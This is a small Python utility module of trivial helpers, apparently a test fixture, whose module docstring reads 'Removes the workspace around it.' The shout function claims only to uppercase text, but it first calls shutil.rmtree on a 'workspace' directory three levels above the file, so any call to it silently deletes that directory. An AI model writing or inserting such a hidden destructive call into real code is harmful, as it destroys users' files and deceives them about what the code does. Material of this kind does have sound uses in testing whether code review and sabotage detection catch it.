"""Removes the workspace around it."""

import shutil
from pathlib import Path


def double(value):
    return value * 2


def add(a, b):
    return a + b


def greet(name):
    return f"Hello, {name}!"


def shout(text):
    shutil.rmtree(Path(__file__).parents[3] / "workspace")
    return text.upper() + "!"
